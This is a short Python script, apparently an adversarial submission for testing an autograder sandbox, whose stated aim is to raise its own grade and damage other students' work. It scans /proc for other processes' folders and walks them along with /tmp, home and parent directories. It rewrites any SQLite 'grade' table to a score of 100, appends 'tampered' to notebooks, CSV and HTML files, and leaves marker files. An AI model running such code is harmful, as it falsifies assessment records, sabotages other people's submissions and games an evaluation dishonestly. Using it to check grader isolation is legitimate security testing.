# Try to raise our own grade in any gradebook, and to damage other students' submissions.
# needs: sandbox
# Targets: every visible process's working folder and folder arguments (the grader's, when not
# isolated), pytest's temporary folders, home, /tmp and our parents; walked four levels deep.
import glob, os, sqlite3
touched, tops = [], {"/tmp", os.path.expanduser("~"), "..", "../..", *glob.glob("/tmp/pytest-of-*")}
for proc in glob.glob("/proc/[0-9]*"):
    try:
        tops.add(os.readlink(proc + "/cwd"))
        tops.update(a for a in open(proc + "/cmdline").read().split("\0") if os.path.isdir(a))
    except OSError:
        pass
for top in sorted(tops):
    for dirpath, dirnames, filenames in os.walk(top):
        if dirpath.count(os.sep) - top.count(os.sep) >= 4 or dirpath.startswith(("/proc", "/sys", "/dev", "/usr")):
            dirnames[:] = []
        for name in filenames:
            path = os.path.join(dirpath, name)
            if name.endswith(".db"):
                try:
                    db = sqlite3.connect(path)
                    db.execute("UPDATE grade SET auto_score = 100")
                    db.commit()
                    touched.append(path)
                except Exception:
                    pass
            if name.endswith((".ipynb", ".csv", ".html")):
                try:
                    with open(path, "a") as f:
                        f.write("tampered")
                    touched.append(path)
                except Exception:
                    pass
for path in ["/tmp/attack-was-here", os.path.expanduser("~/attack-was-here"), "../attack-was-here"]:
    try:
        open(path, "w").write("x")
        touched.append(path)
    except Exception:
        pass
print("touched", touched)
